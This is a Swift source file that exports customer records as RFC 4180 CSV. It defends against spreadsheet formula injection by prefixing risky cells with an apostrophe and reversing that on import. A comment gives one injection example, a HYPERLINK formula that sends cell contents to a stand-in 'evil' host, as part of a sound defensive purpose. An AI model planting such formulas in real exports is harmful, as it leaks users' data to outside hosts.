import Foundation

/// Records as CSV, the way `wvconsole import` reads them back: a header of
/// API field names, RFC 4180 quoting (a field with a comma, quote, CR or LF,
/// or a leading or trailing space, is quoted, its quotes doubled), UTF-8 with
/// an optional BOM for Excel. Every byte of a field is kept as data: control
/// characters are written as they came, never acted on.
public enum RecordsCSV {
    /// Columns find_record returns that add_record does not take: written on
    /// export, ignored (and named once) when such a file is imported.
    public static let readOnlyColumns = ["date", "calls", "result", "conn_id", "campaign_id"]

    /// The header: the add_record fields a record carries, then the read-only ones.
    public static let header: [String] =
        ["customer_id", "customer_name", "customer_last_name", "tel1", "tel2", "tel3"] + (1...12).map { "opt\($0)" } + readOnlyColumns

    /// The whole file for `records`, in the order given. `forTerminal`
    /// (stdout is a terminal, not a file): control characters and escape
    /// sequences in the data are neutralised, as everywhere else on screen.
    /// Unless `raw`, a cell a spreadsheet would run as a formula is written
    /// with a leading `'` (`SpreadsheetSafety`), which `import` takes off again.
    public static func data(_ records: [CustomerRecord], bom: Bool, forTerminal: Bool = false, raw: Bool = false) -> Data {
        var out: [UInt8] = []
        out.reserveCapacity(64 + records.count * 160)
        if bom { out += [0xEF, 0xBB, 0xBF] }
        line(header, into: &out)
        for r in records {
            let fields = [r.customerID, r.customerName, r.customerLastName, r.tel1, r.tel2, r.tel3] + r.opts + [r.date, r.calls, r.result, r.connID, r.campaignID]
            let shown = forTerminal ? fields.map { TerminalText.sanitize($0) } : fields
            line(raw ? shown : shown.map(SpreadsheetSafety.neutralise), into: &out)
        }
        return Data(out)
    }

    static func line(_ fields: [String], into out: inout [UInt8]) {
        for (i, field) in fields.enumerated() {
            if i > 0 { out.append(UInt8(ascii: ",")) }
            append(field, into: &out)
        }
        out += [0x0D, 0x0A]
    }

    static func append(_ field: String, into out: inout [UInt8]) {
        var field = field
        field.withUTF8 { bytes in
            let quoted =
                bytes.contains { $0 == UInt8(ascii: ",") || $0 == UInt8(ascii: "\"") || $0 == 0x0A || $0 == 0x0D }
                || bytes.first == UInt8(ascii: " ") || bytes.last == UInt8(ascii: " ")
            guard quoted else {
                out.append(contentsOf: bytes)
                return
            }
            out.append(UInt8(ascii: "\""))
            for b in bytes {
                if b == UInt8(ascii: "\"") { out.append(b) }
                out.append(b)
            }
            out.append(UInt8(ascii: "\""))
        }
    }
}

/// CSV cells a spreadsheet would run: one that starts with `=`, `+`, `-`,
/// `@`, TAB or CR is a formula to Excel, LibreOffice and Google Sheets
/// (`=HYPERLINK("http://evil/"&A1,"x")` from a record's name). The OWASP
/// rule: such a cell gets a leading `'`, which spreadsheets show as text.
/// A cell that already starts with `'` gets one more, so `restore` (what
/// `import` does) gives back exactly the value that was written.
public enum SpreadsheetSafety {
    static let risky: Set<UInt8> = [UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"), 0x09, 0x0D]

    public static func neutralise(_ cell: String) -> String {
        guard let first = cell.utf8.first, risky.contains(first) || first == UInt8(ascii: "'") else { return cell }
        return "'" + cell
    }

    /// The value `neutralise` was given: one leading `'` off, when what follows it would have been neutralised.
    public static func restore(_ cell: String) -> String {
        let bytes = cell.utf8
        guard bytes.first == UInt8(ascii: "'"), let second = bytes.dropFirst().first, risky.contains(second) || second == UInt8(ascii: "'") else {
            return cell
        }
        return String(cell.dropFirst())
    }
}
